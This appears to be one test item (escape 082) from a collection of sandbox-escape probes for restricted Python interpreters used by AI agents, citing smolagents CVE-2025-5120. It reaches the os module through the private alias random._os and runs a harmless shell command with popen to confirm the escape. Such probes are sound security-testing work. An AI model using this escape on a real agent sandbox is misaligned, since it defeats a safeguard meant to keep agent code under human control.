# escape: 082
# technique: random._os, a module kept as a private alias in a whitelisted module
# family: globals
# goal: exec
# first-seen: smolagents CVE-2025-5120
import random
if random._os.popen('echo r').read() == 'r\n': print('ESCAPED:random._os')
